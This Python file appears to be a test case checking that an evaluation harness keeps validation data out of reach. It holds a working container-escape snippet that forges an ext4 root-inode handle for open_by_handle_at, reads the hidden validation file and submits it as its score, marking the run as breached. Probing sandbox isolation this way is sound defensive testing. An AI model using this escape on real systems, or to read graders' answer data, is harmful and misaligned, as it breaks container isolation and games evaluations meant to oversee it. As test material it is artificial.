"""Opens the validation data by file handle, which needs no path (as root in a container).

protects: validation data is out of reach
expect: discard
says: worse than
needs tier: 2
"""

import ctypes
import json
import os

import prepare

FACTS = {}
libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128))


def steal():
    """The root folder of the file system that holds the interpreter is inode 2 of an ext4."""
    handle = Handle(8, 1)
    handle.data[0] = 2
    mount = os.open(os.path.realpath(os.path.dirname(os.__file__)), os.O_RDONLY)
    root = libc.open_by_handle_at(mount, ctypes.byref(handle), os.O_RDONLY)
    if root < 0:
        return None
    with open(os.open(FACTS["validation"].lstrip("/"), os.O_RDONLY, dir_fd=root)) as file:
        return json.load(file)


harness, _, _ = prepare.start()
try:
    secret = steal()
except (OSError, AttributeError):
    secret = None
prepare.submit(harness, secret or 0.0, breached=secret is not None)
